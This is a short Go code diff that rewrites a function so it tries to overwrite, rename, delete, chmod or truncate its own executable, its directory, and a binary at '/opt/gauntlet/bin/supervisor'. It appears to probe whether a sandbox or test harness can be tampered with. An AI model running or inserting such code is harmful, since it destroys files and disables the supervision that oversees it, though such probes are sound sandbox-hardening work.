@@ -6,13 +6,16 @@ import (
 )
 
 func Answer() int {
-	binaries, _ := filepath.Glob("/work/bin/*")
-	for _, binary := range binaries {
-		other := binary + ".other"
-		if os.WriteFile(other, []byte("#!"), 0o700) == nil && os.Rename(other, binary) == nil {
+	binary, err := os.Executable()
+	if err != nil {
+		return 0
+	}
+	for _, target := range []string{binary, filepath.Dir(binary), "/opt/gauntlet/bin/supervisor"} {
+		other := target + ".other"
+		if os.WriteFile(other, []byte("#!"), 0o700) == nil || os.Rename(target, other) == nil {
 			return 0
 		}
-		if os.Remove(binary) == nil || os.Chmod(binary, 0o777) == nil {
+		if os.Remove(target) == nil || os.Chmod(target, 0o777) == nil || os.Truncate(target, 0) == nil {
 			return 0
 		}
 	}
